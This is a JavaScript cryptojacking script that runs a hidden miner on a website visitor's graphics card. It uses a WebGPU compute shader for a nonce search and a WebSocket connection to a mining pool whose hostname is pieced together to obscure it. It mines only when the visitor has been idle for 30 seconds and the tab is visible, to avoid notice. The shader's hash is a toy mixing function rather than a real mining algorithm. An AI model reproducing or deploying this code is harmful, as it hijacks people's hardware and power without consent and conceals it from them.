// The same kind of miner moved to the graphics card: a WebGPU compute shader runs the
// nonce search in batches while a WebSocket brings jobs from the pool and takes shares
// back; it only starts once the visitor has been idle for a while.
(async function () {
  if (!navigator.gpu) return;
  var adapter = await navigator.gpu.requestAdapter({ powerPreference: "high-performance" });
  if (!adapter) return;
  var device = await adapter.requestDevice();
  var shader = "@group(0) @binding(0) var<storage, read> hdr: array<u32>;\n" +
    "@group(0) @binding(1) var<storage, read_write> out: array<u32>;\n" +
    "fn rotl(x: u32, n: u32) -> u32 { return (x << n) | (x >> (32u - n)); }\n" +
    "@compute @workgroup_size(256) fn main(@builtin(global_invocation_id) id: vec3<u32>) {\n" +
    "  var h: u32 = hdr[0] ^ (hdr[1] + id.x);\n" +
    "  for (var i: u32 = 2u; i < 20u; i = i + 1u) { h = rotl(h ^ hdr[i], 13u) * 0x5bd1e995u; }\n" +
    "  if (h < hdr[20]) { out[0] = id.x; out[1] = h; }\n" +
    "}\n";
  var pipe = device.createComputePipeline({
    layout: "auto",
    compute: { module: device.createShaderModule({ code: shader }), entryPoint: "main" }
  });
  var job = null, idle = 0;
  var ws = new WebSocket("wss://" + ["gpu", "pool-relay", "invalid"].join(".") + "/stratum");
  ws.onopen = function () {
    ws.send(JSON.stringify({ id: 1, method: "login", params: { login: "45wallet7QxMdAbc", pass: "x", agent: "webgpu/1.0" } }));
  };
  ws.onmessage = function (m) {
    var msg = JSON.parse(m.data);
    if (msg.method === "job" || (msg.result && msg.result.job)) job = msg.params || msg.result.job;
  };
  ["mousemove", "keydown", "scroll", "touchstart"].forEach(function (ev) {
    window.addEventListener(ev, function () { idle = 0; }, { passive: true });
  });
  setInterval(function () { idle++; }, 1000);
  async function batch() {
    if (!job || idle < 30 || document.hidden) { setTimeout(batch, 2000); return; }
    var hdr = new Uint32Array(21);
    for (var i = 0; i < 20; i++) hdr[i] = parseInt(job.blob.substr(i * 8, 8), 16) >>> 0;
    hdr[20] = parseInt(job.target, 16) >>> 0;
    var inBuf = device.createBuffer({ size: hdr.byteLength, usage: GPUBufferUsage.STORAGE | GPUBufferUsage.COPY_DST });
    var outBuf = device.createBuffer({ size: 8, usage: GPUBufferUsage.STORAGE | GPUBufferUsage.COPY_SRC });
    var readBuf = device.createBuffer({ size: 8, usage: GPUBufferUsage.MAP_READ | GPUBufferUsage.COPY_DST });
    device.queue.writeBuffer(inBuf, 0, hdr);
    var bind = device.createBindGroup({
      layout: pipe.getBindGroupLayout(0),
      entries: [{ binding: 0, resource: { buffer: inBuf } }, { binding: 1, resource: { buffer: outBuf } }]
    });
    var enc = device.createCommandEncoder();
    var pass = enc.beginComputePass();
    pass.setPipeline(pipe);
    pass.setBindGroup(0, bind);
    pass.dispatchWorkgroups(4096);
    pass.end();
    enc.copyBufferToBuffer(outBuf, 0, readBuf, 0, 8);
    device.queue.submit([enc.finish()]);
    await readBuf.mapAsync(GPUMapMode.READ);
    var r = new Uint32Array(readBuf.getMappedRange().slice(0));
    readBuf.unmap();
    if (r[1]) {
      ws.send(JSON.stringify({ id: 2, method: "submit", params: { job_id: job.job_id, nonce: r[0].toString(16), result: r[1].toString(16) } }));
    }
    setTimeout(batch, 50);
  }
  batch();
})();
